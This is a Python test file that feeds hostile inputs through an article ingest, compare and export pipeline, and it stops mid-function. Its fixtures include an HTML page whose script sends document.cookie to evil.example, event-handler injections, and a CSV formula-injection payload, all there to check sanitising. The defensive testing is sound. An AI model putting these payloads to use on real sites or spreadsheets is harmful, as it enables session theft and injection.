"""Hostile-input battery: every awkward input goes through ingest -> compare -> export.

Each input either gets a clear one-line message (``IngestError`` / ``CompareError``) or a correct result:
offsets that slice the cleaned text, and CSV/JSON exports that round-trip. The fake hashing embedder
keeps the whole file fast. Costs are asserted relative to a small input (CPU time of the big input under
k times its size ratio), never in absolute seconds; a generous hang guard (``HANG_GUARD_S``) only makes a
hang fail instead of blocking the suite.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import resource
import signal
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

from core.__main__ import main as cli_main
from core.config import DEFAULT_LIMITS
from core.embed import CachingEmbedder, HashingEmbedder
from core.export import (
    alignments_frame,
    claims_frame,
    csv_bytes,
    divergences_frame,
    to_json,
    unique_frame,
    write_tables,
)
from core.ingest import IngestError, article_from_bytes, article_from_text
from core.model import Article, Comparison
from core.pipeline import CompareError, compare
from core.segment import split_sentences

BASE = (
    "The council approved the new bridge on Monday after a long debate. "
    "Work starts in March 2025 and will cost 4.5 million euros, the mayor said. "
    "Residents welcomed the decision.\n\n"
    "Opposition members said the vote was rushed. They plan to appeal."
)
RETOLD = (
    "On Monday the council approved the new bridge following a long debate. "
    "The mayor said work starts in March and will cost about 4 million euros.\n\n"
    "Some opposition members said the vote was rushed and plan to appeal."
)


@pytest.fixture(scope="module")
def embedder() -> CachingEmbedder:
    return CachingEmbedder(HashingEmbedder())


@pytest.fixture(scope="module")
def base() -> Article:
    return article_from_text("base", BASE, title="Bridge approved")


# A hang guard, not a speed assertion: a case still running after this long is stuck (the slowest case
# here takes a few CPU-seconds; a loaded machine may stretch it several times).
HANG_GUARD_S = 180.0


def assert_linear(run: Callable[[int], object], small: int, big: int, *, k: float = 3.0) -> None:
    """CPU time of ``run(big)`` stays under ``k * big / small`` times that of ``run(small)`` (the best of
    three small runs; a quadratic cost is ``big / small`` times over)."""
    best = float("inf")
    for _ in range(3):
        started = time.process_time()
        run(small)
        best = min(best, time.process_time() - started)
    started = time.process_time()
    run(big)
    ratio = (time.process_time() - started) / max(best, 2e-3)
    assert ratio < k * big / small, f"{big / small:.0f}x the input cost {ratio:.0f}x the CPU"


@contextlib.contextmanager
def time_limit(seconds: float, what: str) -> Iterator[None]:
    """Fails with TimeoutError when the block runs longer than ``seconds`` (SIGALRM; main thread)."""

    def handler(signum: int, frame: object) -> None:
        raise TimeoutError(f"{what} took longer than {seconds} s")

    old = signal.signal(signal.SIGALRM, handler)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)


def assert_one_line(exc: BaseException) -> str:
    message = str(exc)
    assert message.strip(), "empty message"
    assert "\n" not in message, f"message spans lines: {message!r}"
    assert "Traceback" not in message
    assert len(message) < 300, f"message too long: {message[:120]!r}..."
    return message


def assert_offsets(cmp: Comparison) -> None:
    """Every sentence, passage, link and fact slices its source's cleaned text to itself."""
    texts = {a.source_id: a.text for a in cmp.articles}
    for sid, sents in cmp.sentences.items():
        for k, s in enumerate(sents):
            assert s.source_id == sid
            assert s.index == k
            assert 0 <= s.start < s.end <= len(texts[sid])
            assert texts[sid][s.start : s.end] == s.text
            assert s.text == s.text.strip()
            assert len(s.text) <= DEFAULT_LIMITS.max_sentence_chars
    passages = [p for c in cmp.claims for p in c.passages] + list(cmp.unique)
    passages += [p for lk in cmp.links for p in (lk.a, lk.b)]
    for p in passages:
        sents = cmp.sentences[p.source_id]
        assert 0 <= p.first <= p.last < len(sents)
        assert p.start == sents[p.first].start
        assert p.end == sents[p.last].end
        assert texts[p.source_id][p.start : p.end] == p.text
    for c in cmp.claims:
        assert len(c.passages) >= 2
        assert len(set(c.sources)) == len(c.sources), "two passages of one source in a claim"
    for lk in cmp.links:
        assert lk.a.source_id != lk.b.source_id
    for fp in cmp.facts:
        for fact in (fp.a, fp.b):
            if fact is not None:
                assert texts[fact.source_id][fact.start : fact.end] == fact.text


def assert_exports(cmp: Comparison, tmp_path: Path | None = None) -> dict:
    """CSV tables re-read with the same rows; JSON parses; offsets in the JSON slice the JSON text."""
    frames = [
        alignments_frame(cmp),
        claims_frame(cmp),
        unique_frame(cmp),
        divergences_frame(cmp, include_same=True),
    ]
    for frame in frames:
        data = csv_bytes(frame)
        assert data.startswith(b"\xef\xbb\xbf")
        back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)
        assert len(back) == len(frame)
        # Headers come back as written, but defused: "=1+1" (a source name) is exported as "'=1+1"
        # (and only such headers: a raw "=1+1" header, or a quote added to a harmless one, fails).
        expected = [
            ("'" + str(c)) if str(c).startswith(("=", "+", "-", "@")) else str(c) for c in frame.columns
        ]
        assert list(back.columns) == expected
    payload = json.loads(to_json(cmp))
    assert [s["source_id"] for s in payload["sources"]] == list(cmp.source_ids)
    for src in payload["sources"]:
        for s in src["sentences"]:
            assert 0 <= s["start"] < s["end"] <= len(src["text"])
    by_id = {s["source_id"]: s["text"] for s in payload["sources"]}
    for claim in payload["claims"]:
        for p in claim["passages"]:
            assert by_id[p["source_id"]][p["start"] : p["end"]] == p["text"]
    if tmp_path is not None:
        written = write_tables(cmp, tmp_path / "out")
        assert all(p.stat().st_size > 0 for p in written)
    return payload


def run_pipeline(articles: Sequence[Article], embedder: CachingEmbedder) -> Comparison:
    cmp = compare(articles, embedder)
    assert cmp.source_ids == tuple(a.source_id for a in articles)
    assert_offsets(cmp)
    assert_exports(cmp)
    return cmp


# --------------------------------------------------------------------------------------------------
# Inputs that must be refused with a clear one-line message


@pytest.mark.parametrize(
    ("name", "data", "needle"),
    [
        ("empty.txt", b"", "empty"),
        ("blank.txt", b"   \n\t\r\n  \n", "empty"),
        ("nbsp.txt", "\u00a0\u200b\u200d\n\u2028\ufeff".encode(), "no readable text"),
        ("photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40, "binary"),
        ("archive.txt", b"PK\x03\x04\x14\x00\x08\x00" + bytes(range(256)) * 40, "binary"),
        ("noise.txt", bytes((i * 37 + 11) % 256 for i in range(20_000)), "binary"),
        ("punct.txt", b"... !!! ??? --- *** ###\n\n---", "no readable text"),
        ("odd.txt", b"\xff\xfe" + "Odd length".encode("utf-16-le") + b"\x41", "utf-16"),
        ("script.html", b"<html><body><script>alert(1)</script></body></html>", "no readable text"),
        ("dateonly.txt", b"Published: 5 March 2024 10:31 GMT\n", "no readable text"),
    ],
)
def test_unreadable_files_get_one_line_message(name: str, data: bytes, needle: str) -> None:
    with pytest.raises(IngestError) as info:
        article_from_bytes(name, data)
    message = assert_one_line(info.value)
    assert Path(name).stem in message
    assert needle in message.lower()


@pytest.mark.parametrize(
    "text", ["", "   ", "\n\n\t \n", "\u200b\u200c\u200d\u2060\ufeff", "\u00a0 \u2028 \u3000"]
)
def test_empty_and_whitespace_text(text: str) -> None:
    with pytest.raises(IngestError) as info:
        article_from_text("pasted", text)
    assert assert_one_line(info.value) == "pasted: no readable text"


def test_twenty_megabyte_file_is_refused_fast() -> None:
    data = (BASE + "\n\n").encode() * (20_000_000 // (len(BASE) + 2) + 1)
    with pytest.raises(IngestError) as info:
        article_from_bytes("huge.txt", data)
    message = assert_one_line(info.value)
    assert "20.0 MB" in message
    assert "5 MB" in message

    def refuse_or_read(n: int) -> None:
        with contextlib.suppress(IngestError):
            article_from_bytes("f.txt", data[:n])

    # Refused before any work: 20 MB costs no more than reading a 2 KB file (k: noise only).
    assert_linear(refuse_or_read, 2_000, len(data), k=10 * 2_000 / len(data))


@pytest.mark.parametrize(
    "size",
    [
        pytest.param(2_000_000, id="2MB"),
        pytest.param(20_000_000, id="20MB", marks=pytest.mark.slow),  # ~6-15 s of page-furniture scanning
    ],
)
def test_huge_paste_is_cut_and_compared(size: int, embedder: CachingEmbedder, base: Article) -> None:
    text = (BASE + "\n\n") * (size // (len(BASE) + 2) + 1)
    with time_limit(HANG_GUARD_S, f"ingest and compare of a {size:,}-character paste"):
        art = article_from_text("huge", text)
        assert len(art.text) <= DEFAULT_LIMITS.max_article_chars
        assert f"text cut to the first {DEFAULT_LIMITS.max_article_chars:,} characters" in art.notes
        cmp = run_pipeline([art, base], embedder)
    assert cmp.claims


# --------------------------------------------------------------------------------------------------
# Long lines and long sentences


def test_long_line_without_punctuation(embedder: CachingEmbedder, base: Article) -> None:
    words = " ".join(f"word{i}" for i in range(40_000))[:200_000]
    with time_limit(HANG_GUARD_S, "a 200,000-character line"):
        assert_linear(
            lambda n: split_sentences(article_from_bytes("line.txt", words[:n].encode())), 25_000, 200_000
        )
        art = article_from_bytes("line.txt", words.encode())
        cmp = run_pipeline([art, base], embedder)
    sents = cmp.sentences["line"]
    assert len(sents) >= 200_000 // DEFAULT_LIMITS.max_sentence_chars
    assert "".join(s.text for s in sents).replace(" ", "") == art.text.replace(" ", "")


def test_long_word_without_spaces(embedder: CachingEmbedder, base: Article) -> None:
    art = article_from_text("blob", "x" * 200_000)
    cmp = run_pipeline([art, base], embedder)
    assert sum(len(s.text) for s in cmp.sentences["blob"]) == 200_000


@pytest.mark.parametrize(
    ("label", "unit"),
    [("emphasis", "*a "), ("underscore", "_a "), ("link", "[a "), ("image", "![a "), ("code", "`a ")],
)
def test_long_markdown_line_is_not_quadratic(label: str, unit: str) -> None:
    """A 200,000-character Markdown line of unclosed markup (200 kB: well under the upload limit)."""
    line = unit * (200_000 // len(unit))
    with time_limit(HANG_GUARD_S, f"Markdown cleaning of a long line of unclosed {label} markup"):
        art = article_from_bytes(f"{label}.md", line.encode())
        assert_linear(lambda n: article_from_bytes(f"{label}.md", line[:n].encode()), 25_000, 200_000)
    assert art.text


def test_segmenting_a_maximal_article_is_not_quadratic() -> None:
    """An ordinary news text at max_article_chars: the abbreviation look-back must not rescan the text."""
    para = "Mr. Smith told the council on Monday that the bridge would close. Dr. Jones agreed with him. "
    text = "\n\n".join([para * 4] * (DEFAULT_LIMITS.max_article_chars // (len(para) * 4 + 2)))
    art = Article("long", "", text.strip())
    with time_limit(HANG_GUARD_S, f"segmenting {len(text):,} characters"):
        sents = split_sentences(art)
        assert_linear(lambda n: split_sentences(Article("part", "", text[:n])), len(text) // 8, len(text))
    assert len(sents) > 5_000


# --------------------------------------------------------------------------------------------------
# Encodings, line endings, invisible characters


GERMAN = (
    "Der Stadtrat hat am Montag den Bau der neuen Brücke beschlossen. "
    "Die Arbeiten beginnen im März und kosten 4,5 Millionen Euro, sagte die Bürgermeisterin. "
    "„Das war überfällig“, sagte Frau Müller. Anwohner begrüßten die Entscheidung.\n\n"
    "Die Opposition kritisierte die Abstimmung als übereilt."
)
RUSSIAN = (
    "Городской совет в понедельник одобрил строительство нового моста. "
    "Работы начнутся в марте и обойдутся в 4,5 млн евро, сообщила мэр. "
    "«Это давно назрело», — сказала г-жа Петрова. Жители приветствовали решение.\n\n"
    "Оппозиция назвала голосование поспешным."
)


@pytest.mark.parametrize(
    ("encoding", "text", "expected_note"),
    [
        (
            "cp1252",
            "Caf\u00e9 \u201cquoted\u201d \u2013 5 \u20ac. " + GERMAN,
            "decoded as cp1252 (encoding guessed)",
        ),
        (
            "latin-1",
            "Caf\u00e9 \u00bd \u00a7 \u00c6r\u00f8. " + GERMAN.replace("„", '"').replace("“", '"'),
            None,
        ),
        ("utf-16", GERMAN + "\n\n" + RUSSIAN, "decoded as utf-16"),
        ("utf-16-be-bom", GERMAN + "\n\n" + RUSSIAN, "decoded as utf-16"),
        ("utf-8-sig", RUSSIAN, None),
        ("utf-8", RUSSIAN, None),
    ],
)
def test_encodings(
    encoding: str, text: str, expected_note: str | None, embedder: CachingEmbedder, base: Article
) -> None:
    big_endian = encoding == "utf-16-be-bom"
    data = b"\xfe\xff" + text.encode("utf-16-be") if big_endian else text.encode(encoding)
    art = article_from_bytes("enc.txt", data)
    clean = text.replace("\u201c", '"').replace("\u201d", '"').replace("„", '"').replace("“", '"')
    assert art.text == clean
    if expected_note:
        assert expected_note in art.notes
    if encoding == "latin-1":
        assert any(n.startswith("decoded as") for n in art.notes)  # cp1252 is a superset for these bytes
    run_pipeline([art, base], embedder)


def test_mixed_line_endings(embedder: CachingEmbedder, base: Article) -> None:
    data = b"First paragraph here.\r\nSecond line.\rThird line.\n\nFourth.\r\n\r\nFifth one.\n\r"
    art = article_from_bytes("eol.txt", data)
    assert "\r" not in art.text
    assert [s.text for s in split_sentences(art)] == [
        "First paragraph here.", "Second line.", "Third line.", "Fourth.", "Fifth one."
    ]  # fmt: skip
    run_pipeline([art, base], embedder)


def test_zero_width_and_bidi_characters(embedder: CachingEmbedder, base: Article) -> None:
    hostile = (
        "The\u200b council\u200c approved\u200d the \u202enew\u202c bridge\u2066 on\u2069 Monday\ufeff. "
        "Work\u00ad starts in \u200fMarch\u200e and costs 4.5\u2060 million euros.\n\n"
        "\u0645\u062c\u0644\u0633 \u0627\u0644\u0645\u062f\u064a\u0646\u0629 \u0648\u0627\u0641\u0642. "
        "\u05d4\u05de\u05d5\u05e2\u05e6\u05d4 \u05d0\u05d9\u05e9\u05e8\u05d4."
    )
    art = article_from_text("bidi", hostile)
    for ch in "\u200b\u200c\u200d\u202e\u202c\u2066\u2069\ufeff\u00ad\u200f\u200e\u2060":
        assert ch not in art.text, f"U+{ord(ch):04X} survived cleaning"
    assert art.text.startswith("The council approved the new bridge on Monday.")
    cmp = run_pipeline([art, base], embedder)
    assert cmp.claims  # the English sentences still align with the base text


# --------------------------------------------------------------------------------------------------
# HTML, Markdown and Streamlit markup


HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>Bridge <script>alert('title')</script>approved</title>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert('onload')"><nav><a href="/">Home</a></nav>
<article><h1>Council approves bridge</h1>
<p>The council approved the new bridge on Monday after a long debate in the town hall.</p>
<img src="x" onerror="alert('onerror')"><iframe src="javascript:alert('iframe')"></iframe>
<p>Work starts in March and costs 4.5 million euros,
<a href="javascript:alert('link')">the mayor</a> said on Tuesday evening.</p>
<p onclick="steal()">Residents welcomed the decision, although some complained about the noise.</p>
<svg><script>alert('svg')</script></svg><noscript>Enable JavaScript</noscript>
</article></body></html>"""


@pytest.mark.parametrize("name", ["page.html", "page.htm", "page.txt"])
def test_html_scripts_and_handlers_are_dropped(name: str, embedder: CachingEmbedder, base: Article) -> None:
    art = article_from_bytes(name, HOSTILE_HTML.encode())
    bad_words = (
        "alert",
        "<script",
        "onerror",
        "onload",
        "onclick",
        "javascript:",
        "document.cookie",
        "steal",
    )
    for bad in bad_words:
        assert bad not in art.text, bad
        assert bad not in art.title, bad
    assert "approved the new bridge on Monday" in art.text
    cmp = run_pipeline([art, base], embedder)
    assert cmp.claims


MARKUP = (
    ":red[ALERT] :blue-background[x] :material/warning: $$\\frac{1}{0}$$ $x$ "
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#x3C;b&#x3E; <b>bold</b> <script>alert(2)</script> "
    "[click](javascript:alert(3)) {{7*7}} ${7*7} | a | b |"
)


def test_streamlit_and_markdown_markup_in_text_and_title(embedder: CachingEmbedder, base: Article) -> None:
    """Plain text keeps markup verbatim (the app must escape it); offsets and exports stay exact."""
    body = f"The council approved the new bridge on Monday. {MARKUP} Residents welcomed it."
    art = article_from_text("markup", body, title=f"Title {MARKUP}")
    assert MARKUP in art.text
    assert art.title == f"Title {MARKUP}"
    cmp = run_pipeline([art, base], embedder)
    payload = assert_exports(cmp)
    assert payload["sources"][0]["title"] == art.title
    assert payload["sources"][0]["text"] == art.text
    csv = csv_bytes(unique_frame(cmp)).decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(csv), keep_default_na=False)
    assert any(MARKUP in t for t in back["text"])


def test_markdown_file_with_markup(embedder: CachingEmbedder, base: Article) -> None:
    md = (
        f"# Bridge :red[approved] $$x$$ &amp; <img src=x onerror=alert(1)>\n\n"
        f"The **council** approved the _new_ bridge on Monday. {MARKUP}\n\n"
        "- Work starts in March.\n- It costs 4.5 million euros.\n\n> Residents welcomed it.\n"
    )
    art = article_from_bytes("story.md", md.encode())
    assert art.title.startswith("Bridge :red[approved]")
    assert "**" not in art.text
    assert "# " not in art.text
    run_pipeline([art, base], embedder)


@pytest.mark.parametrize("how", ["given", "markdown", "html", "first line"])
def test_title_of_ten_thousand_characters(how: str, embedder: CachingEmbedder, base: Article) -> None:
    long_title = " ".join(["Headline"] * 1112)[:10_000]
    if how == "given":
        art = article_from_text("t", BASE, title=long_title)
    elif how == "markdown":
        art = article_from_bytes("t.md", f"# {long_title}\n\n{BASE}".encode())
    elif how == "html":
        html = f"<html><head><title>{long_title}</title></head><body><article><p>{BASE}</p></article>"
        art = article_from_bytes("t.html", html.encode())
    else:
        art = article_from_text("t", f"{long_title}\n\n{BASE}")
    assert len(art.title) <= 300
    assert "\n" not in art.title
    assert "council approved the new bridge" in art.text
    cmp = run_pipeline([art, base], embedder)
    assert cmp.claims


# --------------------------------------------------------------------------------------------------
# Numbers of sources


def test_no_source_and_one_source(embedder: CachingEmbedder, base: Article) -> None:
    for articles in ([], [base]):
        with pytest.raises(CompareError) as info:
            compare(articles, embedder)
        assert "at least two" in assert_one_line(info.value)


def test_duplicate_source_names(embedder: CachingEmbedder, base: Article) -> None:
    with pytest.raises(CompareError) as info:
        compare([base, base], embedder)
    assert "same name" in assert_one_line(info.value)


def test_sources_without_sentences(embedder: CachingEmbedder, base: Article) -> None:
    with pytest.raises(CompareError) as info:
        compare([base, Article("blank", "", "")], embedder)
    assert_one_line(info.value)
    cmp = run_pipeline([base, article_from_text("r", RETOLD), Article("blank", "", "")], embedder)
    assert "blank: no sentences found" in cmp.warnings


SHORT = (
    "The council approved the new bridge on Monday. Work starts in March 2025 and costs 4.5 million euros."
)


def test_fifty_identical_sources(embedder: CachingEmbedder) -> None:
    arts = [article_from_text(f"copy{i:02d}", SHORT) for i in range(50)]
    with time_limit(HANG_GUARD_S, "comparing 50 identical sources"):
        cmp = run_pipeline(arts, embedder)
    n_body = sum(1 for s in cmp.sentences["copy00"] if not s.is_heading)
    assert len(cmp.claims) == n_body
    assert all(len(c.passages) == 50 for c in cmp.claims)
    assert cmp.unique == ()
    assert len(cmp.links) == n_body * 50 * 49 // 2


def _variant(i: int) -> Article:
    """One sentence every outlet shares, and two of its own (distinct made-up words: nothing to align)."""
    own = [f"Zq{i}x{k} Vr{i}y{k} Wp{i}z{k} Tk{i}u{k} Ls{i}o{k}." for k in range(2)]
    return article_from_text(f"outlet{i:02d}", " ".join([SHORT.split(". ", maxsplit=1)[0] + ".", *own]))


def test_sixty_sources_is_the_limit(embedder: CachingEmbedder) -> None:
    arts = [_variant(i) for i in range(DEFAULT_LIMITS.max_sources)]
    with time_limit(HANG_GUARD_S, "comparing 60 sources"):
        cmp = run_pipeline(arts, embedder)
    assert len(cmp.articles) == 60
    assert [len(c.passages) for c in cmp.claims] == [60]
    assert len(cmp.unique) == 120


def test_sixty_one_sources_are_refused(embedder: CachingEmbedder) -> None:
    arts = [_variant(i) for i in range(DEFAULT_LIMITS.max_sources + 1)]
    calls = embedder.inner.calls
    with pytest.raises(CompareError) as info:
        compare(arts, embedder)
    message = assert_one_line(info.value)
    assert "61 sources" in message
    assert "at most 60" in message
    assert embedder.inner.calls == calls  # refused before any embedding


# --------------------------------------------------------------------------------------------------
# Languages and numbers-only articles


GERMAN_RETOLD = (
    "Am Montag beschloss der Stadtrat den Bau der neuen Brücke. "
    "Laut der Bürgermeisterin beginnen die Arbeiten im März und kosten 4,5 Mio. Euro.\n\n"
    "Die Opposition nannte die Abstimmung übereilt."
)


def test_german_articles(embedder: CachingEmbedder) -> None:
    a = article_from_text("de1", GERMAN)
    b = article_from_text("de2", GERMAN_RETOLD)
    cmp = run_pipeline([a, b], embedder)
    texts = [s.text for s in cmp.sentences["de1"]]
    assert texts[1].endswith("sagte die Bürgermeisterin.")
    assert '"Das war überfällig", sagte Frau Müller.' in texts
    assert cmp.claims


def test_russian_articles(embedder: CachingEmbedder, base: Article) -> None:
    a = article_from_text("ru1", RUSSIAN)
    b = article_from_text("ru2", RUSSIAN.replace("в понедельник", "во вторник"))
    cmp = run_pipeline([a, b, base], embedder)
    assert len(cmp.sentences["ru1"]) == 5
    assert cmp.sentences["ru1"][0].text == "Городской совет в понедельник одобрил строительство нового моста."
    assert any({"ru1", "ru2"} <= set(c.sources) for c in cmp.claims)


def test_mixed_scripts(embedder: CachingEmbedder, base: Article) -> None:
    text = (
        "東京都は月曜日に新しい橋の建設を承認した。工事は三月に始まる。\n\n"
        "Η δημοτική αρχή ενέκρινε τη γέφυρα τη Δευτέρα. Οι εργασίες ξεκινούν τον Μάρτιο.\n\n"
        "The council approved the new bridge on Monday. 🚧🌉 Emoji 👩‍👩‍👧 family."
    )
    art = article_from_text("mixed", text)
    run_pipeline([art, base], embedder)


def test_article_of_only_numbers_and_dates(embedder: CachingEmbedder, base: Article) -> None:
    text = (
        "2024-03-05\n\n"
        "12 345 678\n\n3.14 2.71 1,000,000 -40 +7 1e6 0x1F 1/2 ½ 12:30 45%\n\n"
        "5 March 2024, 6 April 2023, 2023-04-06, 04/06/2023.\n\n"
        "1990–1995: 45% | 1996–2000: 55%"
    )
    art = article_from_text("numbers", text)
    assert art.published is not None
    assert "3.14 2.71" in art.text
    cmp = run_pipeline([art, base], embedder)
    assert cmp.sentences["numbers"]
    twin = article_from_text("numbers2", text)
    cmp = run_pipeline([art, twin], embedder)
    assert cmp.claims


# --------------------------------------------------------------------------------------------------
# Exports with hostile source names and cell contents


def test_hostile_source_names_in_exports(embedder: CachingEmbedder, tmp_path: Path) -> None:
    names = ['a,b "quoted"', "line\nbreak", "claim_id", "n_sources", "divergences", "Ünïcødé 東京", "=1+1"]
    arts = [article_from_text(n, BASE if k % 2 else RETOLD) for k, n in enumerate(names)]
    cmp = compare(arts, embedder)
    frame = claims_frame(cmp)
    # A source called "claim_id" (claim_id.txt) must not overwrite the claim id column.
    assert frame.columns.is_unique, f"duplicate columns: {list(frame.columns)}"
    assert frame["claim_id"].tolist() == [c.claim_id for c in cmp.claims]
    assert_offsets(cmp)
    assert_exports(cmp, tmp_path)


def test_csv_cells_cannot_start_formulas(embedder: CachingEmbedder) -> None:
    evil = '=HYPERLINK("http://evil.example","Click") is what the council approved on Monday.'
    arts = [article_from_text("a", evil + " " + BASE), article_from_text("b", evil + " " + RETOLD)]
    cmp = run_pipeline(arts, embedder)
    for frame in (alignments_frame(cmp), claims_frame(cmp), unique_frame(cmp)):
        back = pd.read_csv(
            io.BytesIO(csv_bytes(frame)), encoding="utf-8-sig", keep_default_na=False, dtype=str
        )
        for column in back.columns:
            assert not any(str(v).startswith(("=", "+", "-", "@")) for v in back[column]), column


# --------------------------------------------------------------------------------------------------
# Issue 15 battery, as a table: one row per case (input, expected, observed). ``bench/hostile_battery.py``
# runs these rows (and every other test of tests/test_hostile*.py) with a per-case time limit and counts
# crashes, hangs, injections and lost data. ``kind`` says what a wrong observation would be.


@dataclass(frozen=True)
class Case:
    """One hostile input: a short description, what must happen, and how to observe what happens."""

    id: str
    kind: str  # "crash", "hang", "injection" or "lost": what a failure of this row means
    input: str
    expected: str
    observe: Callable[[], str]


def _cli(*args: str) -> str:
    """Runs ``python -m core compare`` in-process; returns "exit N: <stderr lines>" (a traceback or an
    escaping exception shows as such, never as a clean exit)."""
    out, err = io.StringIO(), io.StringIO()
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = cli_main(["compare", *args, "--backend", "hashing"])
    except SystemExit as exc:  # argparse refusing an option
        code = exc.code if isinstance(exc.code, int) else 1
    lines = [
        ln for ln in err.getvalue().splitlines() if ln.startswith(("skipped:", "error:", "python -m core"))
    ]
    sources = next((ln for ln in out.getvalue().splitlines() if ln.startswith("sources ")), "")
    return f"exit {code}: " + " | ".join(lines + ([" ".join(sources.split())] if sources else []))


def _story_files(folder: Path, names: Sequence[str]) -> list[str]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for k, name in enumerate(names):
        path = folder / name
        path.write_text(BASE if k % 2 else RETOLD, encoding="utf-8")
        paths.append(str(path))
    return paths


def _with_tmp(run: Callable[[Path], str]) -> Callable[[], str]:
    def observe() -> str:
        with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
            return run(Path(tmp))

    return observe


def _cli_fifo(tmp: Path) -> str:
    fifo = tmp / "pipe.txt"
    os.mkfifo(fifo)
    return _cli(str(fifo), *_story_files(tmp / "s", ["a.txt", "b.txt"]), "--out", str(tmp / "out"))


def _cli_big_sparse(tmp: Path) -> str:
    big = tmp / "big.txt"
    with big.open("wb") as fh:
        fh.truncate(1_500_000_000)  # sparse: 1.5 GB long, no disk used
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = _cli(str(big), *_story_files(tmp / "s", ["a.txt", "b.txt"]), "--out", str(tmp / "out"))
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    return result + (f" | peak memory grew {grown_mb:.0f} MB" if grown_mb > 200 else "")


def _cli_out_is_file(tmp: Path) -> str:
    (tmp / "taken").write_text("x")
    files = _story_files(tmp / "s", ["a.txt", "b.txt"])
    return _cli(*files, "--out", str(tmp / "taken")).replace(str(tmp), "T")


def _cli_out_under_file(tmp: Path) -> str:
    (tmp / "taken").write_text("x")
    files = _story_files(tmp / "s", ["a.txt", "b.txt"])
    return _cli(*files, "--out", str(tmp / "taken" / "sub")).replace(str(tmp), "T")


def _cli_report_is_folder(tmp: Path) -> str:
    files = _story_files(tmp / "s", ["a.txt", "b.txt"])
    return _cli(*files, "--out", str(tmp / "o"), "--report", str(tmp)).replace(str(tmp), "T")


def _cli_threshold(option: str, value: str) -> Callable[[], str]:
    def run(tmp: Path) -> str:
        files = _story_files(tmp / "s", ["a.txt", "b.txt"])
        return _cli(*files, "--out", str(tmp / "o"), f"{option}={value}")

    return _with_tmp(run)


def _cli_names(names: Sequence[str]) -> Callable[[], str]:
    def run(tmp: Path) -> str:
        return _cli(*_story_files(tmp / "s", names), "--out", str(tmp / "o"))

    return _with_tmp(run)


def _valid_unicode(text: str) -> str:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError as exc:
        return f"invalid Unicode ({exc.reason})"
    return "valid Unicode"


def _decoded(data: bytes, charset: str, content_type: str = "text/plain") -> Callable[[], str]:
    def observe() -> str:
        art = article_from_bytes("page", data, charset=charset, content_type=content_type)
        notes = [n for n in art.notes if "encoding" in n]
        return f"{_valid_unicode(art.text + art.title)}; {notes[0] if notes else 'no note'}"

    return observe


def _pasted_surrogate() -> str:
    art = article_from_text("p", "The council met on Monday \ud800 and approved the bridge plan.")
    return _valid_unicode(art.text)


def _nul_at(offset: int) -> Callable[[], str]:
    def observe() -> str:
        text = (BASE + "\n\n") * (offset // (len(BASE) + 2) + 2)
        data = text[:offset].encode() + b"\x00" + text[offset:].encode()
        try:
            article_from_bytes("nul.txt", data)
        except IngestError as exc:
            return "refused: binary" if "binary" in str(exc) else f"refused: {exc}"
        return "accepted"

    return observe


DEEP_OUTER = "The harbour board approved the new ferry terminal on Monday after a short debate."
DEEP_INNER = "Engineers said the old pier will be demolished in the spring and rebuilt by 2027."
DEEP_AFTER = "The mayor said the project is the largest in the town for a generation."


def _nested(depth: int) -> Callable[[], str]:
    def observe() -> str:
        html = (
            f"<html><body><p>{DEEP_OUTER}</p>{'<div>' * depth}<p>{DEEP_INNER}</p>{'</div>' * depth}"
            f"<p>{DEEP_AFTER}</p></body></html>"
        )
        try:
            text = article_from_bytes("deep.html", html.encode()).text
        except IngestError as exc:
            return f"refused: {exc}"
        kept = [
            name
            for name, p in (("outer", DEEP_OUTER), ("inner", DEEP_INNER), ("after", DEEP_AFTER))
            if p in text
        ]
        return "kept " + ", ".join(kept)

    return observe


def _min_cpu(run: Callable[[], object], repeats: int = 3) -> float:
    best = float("inf")
    for _ in range(repeats):
        started = time.process_time()
        run()
        best = min(best, time.process_time() - started)
    return best


def _heading_lines_cost() -> str:
    """Cleaning 8x the distinct heading-like lines costs under 3 x 8 the CPU (a quadratic check was 64x)."""

    def page(n: int) -> str:
        lines = [f"Section {i} on the valley road works and the {i % 7} bridges" for i in range(n)]
        return "\n\n".join([*lines, BASE])

    small, big = page(1_000), page(8_000)
    ratio = _min_cpu(lambda: article_from_text("big", big), 1) / max(
        _min_cpu(lambda: article_from_text("small", small)), 1e-3
    )
    return "linear" if ratio < 3 * 8 else f"superlinear: {ratio:.0f}x the CPU for 8x the lines"


class _DripServer:
    """A loopback server that answers one connection with headers dripped one byte per 0.1 s (about 30 s
    in all, each byte well within the client's read timeout); ``finished`` tells whether it got to the
    end, i.e. whether the client waited for all of it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.stop = threading.Event()
        self.finished = False
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            conn, _ = self.sock.accept()
            with conn:
                conn.recv(4096)
                for byte in b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nX-Pad: " + b"a" * 300:
                    if self.stop.is_set():
                        return
                    conn.sendall(bytes([byte]))
                    time.sleep(0.1)
                self.finished = True

    def close(self) -> None:
        self.stop.set()
        self.sock.close()


def _drip_fetch() -> str:
    from core.fetch import FetchError, FetchPolicy, fetch_page

    server = _DripServer()
    try:
        fetch_page(
            f"http://127.0.0.1:{server.port}/",
            policy=FetchPolicy(allow_private=True, timeout_s=0.5, total_deadline_s=0.8),
        )
        observed = "fetched"
    except FetchError as exc:
